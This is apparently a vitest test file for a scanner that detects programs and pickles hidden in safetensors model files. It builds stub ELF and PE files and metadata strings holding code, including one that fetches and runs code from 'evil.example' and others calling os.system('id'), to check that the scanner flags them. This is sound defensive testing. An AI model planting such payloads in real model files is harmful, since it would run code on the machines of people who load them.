// Bytes that belong to no tensor, and files that only call themselves so.
import { describe, expect, test } from "vitest";
import { bytesOf } from "../formats/bytes/source.ts";
import { actsIn, calling, limits } from "./testing/pickles.ts";
import { traceLoad } from "./trace.ts";

const tensor = (from: number, to: number): string =>
  `{"dtype":"U8","shape":[${to - from}],"data_offsets":[${from},${to}]}`;

function file(header: string, data: Buffer, stated = BigInt(header.length)): Buffer {
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(stated);
  return Buffer.concat([length, Buffer.from(header), data]);
}

const one = `{"w":${tensor(0, 4)}}`;
const weights = Buffer.from("aaaa");
const behind = (hidden: Buffer): Buffer => file(one, Buffer.concat([weights, hidden]));

describe("what is hidden", () => {
  const elf = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(100)]);
  test.each([
    ["machine code", behind(elf)],
    ["a text", behind(Buffer.from("import os; os.system('id')"))],
    ["data", behind(Buffer.alloc(40, 0xc3))],
    [
      "a hole",
      file(
        `{"v":${tensor(44, 48)},${one.slice(1)}`,
        Buffer.concat([weights, Buffer.alloc(40, 1), weights]),
      ),
    ],
  ])("%s", (_, bytes) => {
    expect(actsIn(bytes)).toEqual(["hides"]);
  });
  test("a pickle is followed", () => {
    expect(actsIn(behind(calling("os", "system", "id")))).toEqual(["hides", "runs"]);
  });
  test("zeros and a few bytes are only odd", () => {
    expect(actsIn(behind(Buffer.alloc(100)))).toEqual(["contradicts"]);
    expect(actsIn(behind(Buffer.from("PK")))).toEqual(["contradicts"]);
  });
  test("a sound one is silent", () => {
    expect(actsIn(file(one, weights))).toEqual([]);
    expect(actsIn(file(`${one}   `, weights))).toEqual([]);
  });
});

describe("what is called safetensors", () => {
  const acts = (bytes: Buffer, path = "model.safetensors"): number =>
    traceLoad(bytesOf(bytes), { ...limits, path }).parts.flatMap(({ lines }) =>
      lines.flatMap(({ acts: found = [] }) => found),
    ).length;
  test("a header longer than the file, or than any", () => {
    expect(acts(file(one, weights, 1_000_000n))).toBe(1);
    expect(acts(file(one, weights, 1n << 60n))).toBe(1);
    expect(acts(Buffer.alloc(5_000, 0xa7))).toBe(1);
  });
  test("a pointer of Git LFS, and other names, are silent", () => {
    expect(acts(Buffer.from("version https://git-lfs.github.com/spec/v1\n"))).toBe(0);
    expect(acts(Buffer.alloc(5_000, 0xa7), "model.bin")).toBe(0);
  });
});

describe("a tensor that is a program", () => {
  const named = (data: Buffer): Buffer => file(`{"w":${tensor(0, data.length)}}`, data);
  const pe = Buffer.alloc(256);
  pe.write("MZ");
  pe.writeUInt32LE(64, 60);
  pe.write("PE\0\0", 64);
  const elf = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(100)]);
  test.each([pe, elf])("is told", (data) => {
    expect(actsIn(named(data))).toEqual(["native"]);
  });
  test("numbers that begin alike are silent", () => {
    const numbers = Buffer.alloc(256, 7);
    numbers.write("MZ");
    expect(actsIn(named(numbers))).toEqual([]);
    const other = Buffer.alloc(256, 7);
    other.write("\x7fELF", "latin1");
    expect(actsIn(named(other))).toEqual([]);
  });
});

describe("metadata that are a program", () => {
  const metadata = (value: string): Buffer =>
    file(`{"__metadata__":${JSON.stringify({ x: value })},${one.slice(1)}`, weights);
  test.each([
    "exec(__import__('base64').b64decode('aW1wb3J0'))",
    "__import__('os').system('id')",
    " eval(compile(bytes.fromhex('00'), '', 'exec'))",
    "exec(urllib.request.urlopen('http://evil.example').read())",
  ])("%s", (value) => {
    expect(actsIn(metadata(value))).toEqual(["metadata-program"]);
  });
  test("words about code are not", () => {
    expect(actsIn(metadata("Call eval(model) before exec(x)"))).toEqual(["metadata"]);
    expect(actsIn(metadata("exec plan, evaluated on b64decode benchmarks"))).toEqual([]);
  });
});
